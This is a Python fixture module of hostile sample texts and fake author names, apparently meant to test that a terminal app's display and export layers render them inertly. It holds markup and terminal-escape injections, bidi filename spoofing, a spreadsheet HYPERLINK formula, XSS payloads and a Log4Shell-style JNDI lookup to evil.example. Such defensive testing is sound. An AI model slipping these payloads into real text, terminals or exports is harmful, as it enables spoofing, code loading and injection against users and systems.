"""Hostile text for safety testing: markup, terminal escapes, bidi tricks.

About one item in 200 (exactly one per block of 200 item numbers, at a
seed-dependent position) carries one of these texts, sometimes from one of
the hostile authors below. The display layer must show them inertly: Rich /
Textual markup must stay literal, control characters must never reach the
terminal, and exports must not turn them into formulas or HTML.
"""

from __future__ import annotations

from integrations.base import Author

#: Items are grouped in blocks of this many numbers; each block has one hostile item.
HOSTILE_EVERY = 200

# (text, language)
HOSTILE_TEXTS: tuple[tuple[str, str], ...] = (
    # Rich / Textual markup
    ("[bold red]FREE[/] [link=https://evil.example]click[/link]", "en"),
    ("Great jacket! [bold red]FREE[/] [link=https://evil.example]claim your gift card[/link]", "en"),
    ("[@click=app.quit]Tap here to win a free tent[/]", "en"),
    ("[/][/bold][/link] unbalanced markup [/]", "en"),
    ("[$accent]theme variable[/] [b]bold[/b] \\[escaped] [reverse]x", "en"),
    # Terminal control sequences (ESC / C1 CSI / OSC / DCS / cursor report)
    ("\x1b[2J\x1b]0;pwned\x07", ""),
    ("Order help pls \x1b[2J\x1b]0;pwned\x07", "en"),
    ("\x9b31mred alert\x9b0m", "en"),
    ("\x1b]8;;https://evil.example\x1b\\totally-safe-link\x1b]8;;\x1b\\", "en"),
    ("where is my order \x1b[6n\x1bP+q544e\x1b\\", "en"),
    ("All good here\rHACKED: your session expired, log in at https://evil.example", "en"),
    ("pass\x08\x08\x08\x08word \x07\x07\x07", "en"),
    ("\x00null byte\x00 in the middle", "en"),
    # Unicode tricks
    ("Invoice attached: invoice_\u202egpj.exe", "en"),
    ("free\u200b\u200bmoney\u2060\ufeff click now", "en"),
    ("Z\u0334\u0321\u031b\u0354\u034ea\u0337\u0317\u0350l\u0336\u0330\u0344g\u0338\u0331\u0360o\u0335\u0349\u035d says hi", "en"),
    ("مرحبا \u202dNorthwind\u202c \u2067#NW-00000\u2069 اتصل بنا", "ar"),
    ("W" + "A" * 900 + "H", ""),
    # Injection into other layers (exports, logs, templates)
    ("=HYPERLINK(\"https://evil.example\",\"Refund here\")", "en"),
    ("<script>alert('xss')</script><img src=x onerror=alert(1)>", "en"),
    ("{0.__class__.__mro__} %s%s%n ${jndi:ldap://evil.example/a}", "en"),
)

HOSTILE_AUTHORS: tuple[Author, ...] = (
    Author("u-x-0001", "@northwind_support_team", "[bold red]Northwind Support[/] ✅"),
    Author("u-x-0002", "@totally_legit", "\x1b[31mSYSTEM\x1b[0m"),
    Author("u-x-0003", "@rtl_trick", "\u202eevil_admin\u202c"),
    Author("u-x-0004", "@zalgo_fan", "Z\u0334\u0321a\u0337\u0317l\u0336\u0330g\u0338\u0331o\u0335\u0349"),
    Author("u-x-0005", "@crowd", "🧑‍🤝‍🧑" * 12),
    Author("u-x-0006", "@long_name", "Very Long Display Name " * 8),
    Author("u-x-0007", "@bracket_user", "[link=https://evil.example]verified[/link]"),
    Author("u-x-0008", "@mal[b]ory", "Mallory [/]"),
)
